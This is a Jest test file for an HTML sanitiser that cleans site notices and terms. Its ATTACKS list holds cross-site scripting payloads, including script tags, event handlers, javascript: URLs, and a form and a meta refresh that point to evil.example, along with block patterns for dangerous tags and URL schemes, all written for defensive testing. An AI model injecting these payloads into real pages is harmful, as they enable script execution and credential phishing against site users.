/**
 * @jest-environment jsdom
 */
import { SEED_NOTICES } from '../../seed/identity/notices.ts';
import { seedTermsDocuments } from '../../seed/identity/terms.ts';
import { safeUrl } from '@kfeed/contracts/cleanHtml';
import { hasContent, sanitizeNoticeHtml } from './noticeHtml.ts';

/*
 * The DOM jsdom gives this file, typed here by hand: the API's own compilation has no DOM
 * library (it must never reach for one), and the kit's sanitiser is loaded at run time for
 * the same reason (its TypeScript is written for browsers).
 */
interface DomNode {
  nodeType: number;
  textContent: string | null;
  childNodes: ArrayLike<DomNode>;
}
interface DomElement extends DomNode {
  tagName: string;
  innerHTML: string;
  attributes: ArrayLike<{ name: string; value: string }>;
  querySelectorAll(selector: string): ArrayLike<DomElement>;
}
interface DomTemplate extends DomElement {
  content: DomElement;
}
const { document } = globalThis as unknown as {
  document: { createElement(tag: string): DomTemplate };
};
const ELEMENT_NODE = 1;
const TEXT_NODE = 3;

/** The one sanitiser the apps run on notices and terms (shared/kit). */
const KIT_SANITIZER = '@kfeed/kit/html/sanitizeHtml';
const { sanitizeHtml } = (await import(KIT_SANITIZER)) as {
  sanitizeHtml: (html: string) => string;
};

/**
 * Markup as a browser reads it back, attributes in name order, so that two spellings of one
 * document (DOMPurify writes attributes back in another order) compare equal.
 */
function normalised(html: string): string {
  const template = document.createElement('template');
  template.innerHTML = html;
  const write = (node: DomNode): string => {
    if (node.nodeType === TEXT_NODE) {
      const span = document.createElement('span');
      span.textContent = node.textContent;
      return span.innerHTML;
    }
    if (node.nodeType !== ELEMENT_NODE) return '';
    const element = node as DomElement;
    const name = element.tagName.toLowerCase();
    const attributes = Array.from(element.attributes)
      .map((a) => ` ${a.name}="${a.value}"`)
      .sort()
      .join('');
    return `<${name}${attributes}>${Array.from(node.childNodes).map(write).join('')}</${name}>`;
  };
  return Array.from(template.content.childNodes).map(write).join('');
}

/** Every element and attribute name in the markup. */
function namesIn(html: string): { elements: string[]; attributes: string[] } {
  const template = document.createElement('template');
  template.innerHTML = html;
  const elements = Array.from(template.content.querySelectorAll('*'));
  return {
    elements: elements.map((e) => e.tagName.toLowerCase()),
    attributes: elements.flatMap((e) => Array.from(e.attributes).map((a) => a.name)),
  };
}

const ATTACKS = [
  '<p>hi<script>alert(1)</script></p>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<svg><g onload="alert(1)"></g></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<style>body{display:none}</style><p>text</p>',
  '<form action="https://evil.example"><input name="pw"><button>go</button></form>',
  '<iframe src="https://evil.example"></iframe><p>after</p>',
  '<p style="position:fixed" onmouseover="x()" class="big" id="main">styled</p>',
  '<a href="https://kfeed.example" target="_self" rel="opener">link</a>',
  '<div><p>unclosed <b>bold <i>both</div> after',
  '<!-- a comment --><p>x</p><![CDATA[ y ]]>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p>&lt;script&gt; is text &amp; stays text</p>',
  '<table><tr><td colspan="2" onclick="x()">cell</td></tr></table>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>',
];

describe('sanitizeNoticeHtml', () => {
  it('keeps what the seeded notices and terms are written with, links made safe', () => {
    const documents = [
      ...SEED_NOTICES.flatMap((notice) => [notice.ko.text, notice.en.text]),
      ...seedTermsDocuments().map((doc) => doc.contents),
    ];
    for (const html of documents) {
      const cleaned = sanitizeNoticeHtml(html);
      // Nothing but the links' target and rel changes.
      expect(normalised(cleaned.replaceAll(' target="_blank" rel="noopener noreferrer"', ''))).toBe(
        normalised(html),
      );
    }
  });

  it.each(ATTACKS)('leaves nothing the kit’s sanitiser would remove: %s', (html) => {
    const cleaned = sanitizeNoticeHtml(html);
    const { elements, attributes } = namesIn(cleaned);
    for (const name of elements) {
      expect(name).not.toMatch(
        /^(script|style|svg|math|iframe|form|input|button|object|embed|meta)$/,
      );
    }
    for (const name of attributes) expect(name).not.toMatch(/^(on|style|class|id)/);
    expect(cleaned).not.toMatch(/javascript:|data:/i);
    // The sanitiser every app runs before showing a notice finds nothing more to take away.
    expect(normalised(sanitizeHtml(cleaned))).toBe(normalised(cleaned));
  });

  it('keeps text, escapes it, and closes what was left open', () => {
    expect(sanitizeNoticeHtml('<p>a < b & "c"</p>')).toBe('<p>a &lt; b &amp; "c"</p>');
    expect(sanitizeNoticeHtml('<ul><li>one<li>two</ul>')).toBe('<ul><li>one</li><li>two</li></ul>');
    expect(sanitizeNoticeHtml('<b>open')).toBe('<b>open</b>');
    expect(sanitizeNoticeHtml('<marquee>moving</marquee>')).toBe('moving');
  });

  it('tells addresses that may stay', () => {
    for (const url of [
      'https://a.example',
      'http://a',
      'mailto:a@b',
      'tel:+82',
      '/api/x',
      'x.txt',
    ]) {
      expect({ url, safe: safeUrl(url) }).toEqual({ url, safe: true });
    }
    for (const url of ['javascript:x', ' JavaScript:x', 'java\tscript:x', 'data:x', 'vbscript:x']) {
      expect({ url, safe: safeUrl(url) }).toEqual({ url, safe: false });
    }
  });

  it('tells an empty result apart', () => {
    expect(hasContent(sanitizeNoticeHtml('<script>x</script><p> </p>'))).toBe(false);
    expect(hasContent(sanitizeNoticeHtml('<p>x</p>'))).toBe(true);
    expect(hasContent(sanitizeNoticeHtml('<img src="/api/files/a.png">'))).toBe(true);
  });
});
